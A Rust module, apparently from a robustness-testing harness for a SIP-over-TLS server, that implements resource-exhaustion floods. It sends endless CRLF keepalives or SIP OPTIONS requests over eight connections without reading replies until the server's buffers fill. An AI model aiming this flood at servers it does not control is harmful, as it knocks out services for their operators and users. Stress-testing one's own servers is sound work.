//! Attacks by not reading: answers accumulate until the server has no more room for them.

use super::attacker::{Attacker, reset};
use crate::target::DOMAIN;
use std::io::Write;
use std::time::Duration;

/// How many connections of one attack are open at once.
const CONNECTIONS: usize = 8;

/// How long connections stay open after no more can be sent.
const LINGER: Duration = Duration::from_secs(3);

/// How many bytes are sent before the attack checks whether it has to stop.
const BYTES_PER_WRITE: usize = 16 * 1024;

/// Sends CRLFCRLF without end and reads no pong.
pub fn unread_pings(attacker: &Attacker) {
    flood(attacker, &b"\r\n\r\n".repeat(BYTES_PER_WRITE / 4));
}

/// Sends OPTIONS without end and reads no response.
pub fn unread_options(attacker: &Attacker) {
    let options = format!(
        "OPTIONS sip:{DOMAIN} SIP/2.0\r\n\
         Via: SIP/2.0/TLS 192.0.2.1:5061;branch=z9hG4bKunread\r\n\
         Max-Forwards: 70\r\n\
         From: <sip:unread@{DOMAIN}>;tag=unread\r\n\
         To: <sip:{DOMAIN}>\r\n\
         Call-ID: unread\r\n\
         CSeq: 1 OPTIONS\r\n\
         Content-Length: 0\r\n\r\n"
    );
    flood(
        attacker,
        options.repeat(BYTES_PER_WRITE / options.len()).as_bytes(),
    );
}

fn flood(attacker: &Attacker, bytes: &[u8]) {
    let mut connections: Vec<_> = (0..CONNECTIONS)
        .map_while(|_| (!attacker.must_stop()).then(|| attacker.handshake()))
        .filter_map(Result::ok)
        .collect();
    for stream in &mut connections {
        let _ = stream
            .sock
            .set_write_timeout(Some(Duration::from_millis(200)));
        attacker.count();
    }
    let mut writable: Vec<_> = connections.iter_mut().collect();
    while !writable.is_empty() && !attacker.must_stop() {
        // A connection whose write times out is left as it is: all buffers are full.
        writable.retain_mut(|stream| stream.write_all(bytes).is_ok());
        // Without a pause the flood would take the CPU time that the server needs.
        attacker.pause(Duration::from_millis(20));
    }
    attacker.pause(LINGER);
    connections.iter().for_each(|stream| reset(&stream.sock));
}
